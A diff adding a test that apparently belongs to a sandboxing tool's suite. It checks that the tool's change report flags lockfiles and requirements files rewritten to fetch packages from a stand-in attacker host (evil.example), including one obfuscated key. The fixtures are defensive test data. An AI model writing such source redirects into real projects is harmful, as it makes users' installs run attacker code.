@@ -2489,6 +2489,65 @@ BUILD_FILE_SPELLINGS = {
 }
 
 
+# Files that say where the user's next install fetches its packages
+# from, rewritten by the program to its own server: npm ci installs a
+# lockfile's "resolved" tarball as it stands (its integrity is the
+# lockfile's own), yarn its yarn.lock's, pip its requirements' index.
+# Each package's install scripts then run as the user.
+PACKAGE_SOURCES = {
+    "package-lock.json": '{"name":"a","lockfileVersion":3,"packages":'
+                         '{"node_modules/lodash":{"version":"4.17.21",'
+                         '"resolved":"https://evil.example/lodash.tgz",'
+                         '"integrity":"sha512-x"}}}',
+    "npm-shrinkwrap.json": '{"name":"a","lockfileVersion":3,"packages":'
+                           '{"node_modules/x":{"resolv\\u0065d":'
+                           '"https://evil.example/x.tgz"}}}',
+    "yarn.lock": 'lodash@^4:\n  version "4.17.21"\n'
+                 '  resolved "https://evil.example/l.tgz#abc"\n',
+    "requirements.txt": "--index-url https://evil.example/simple\n"
+                        "requests==2.0\n",
+    "requirements-dev.txt": "pytest\n"
+                            "git+https://evil.example/p.git#egg=p\n",
+}
+
+
+def test_package_sources_rewritten_are_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), promise: the changes report names
+    every file the program left that a program on the host runs or trusts
+    later.
+
+    Threat: the program points a lockfile's "resolved" URL (or a
+    requirements file's index) at a server of its own; nobody reads a
+    lockfile's diff, and the user's next `npm ci`, `yarn` or `pip install
+    -r` installs and runs that package's scripts outside. The report said
+    "changed N files"."""
+    for name, text in PACKAGE_SOURCES.items():
+        (work / f"{name}.new").write_text(text)
+    script = "; ".join(f"cat '{n}.new' > '{n}'" for n in PACKAGE_SOURCES)
+    cp = lnk.run("--write", work, "--name", "psrc", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {script}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "psrc")
+    missing = [n for n in PACKAGE_SOURCES if n not in flags]
+    assert not missing, (missing, flags, cp.stderr)
+    assert "evil.example" in flags["package-lock.json"], flags
+    assert "evil.example" in flags["yarn.lock"], flags
+    assert "index" in flags["requirements.txt"], flags
+    # the registry's own tarballs and plain pins say nothing
+    (work / "package-lock.json.new").write_text(
+        '{"packages":{"node_modules/a":{"resolved":'
+        '"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}')
+    (work / "requirements.txt.new").write_text("requests==2.31\n# a note\n")
+    cp = lnk.run("--write", work, "--name", "psrc2", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && cat package-lock.json.new > "
+                 "package-lock.json && cat requirements.txt.new > "
+                 "requirements.txt")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "psrc2")
+    assert "package-lock.json" not in flags, flags
+    assert "requirements.txt" not in flags, flags
+
+
 def test_build_file_spellings_left_are_flagged(lnk, work):
     """Invariant 8 (what runs outside later), promise: the changes report names
     every file the program left that a program on the host runs or trusts
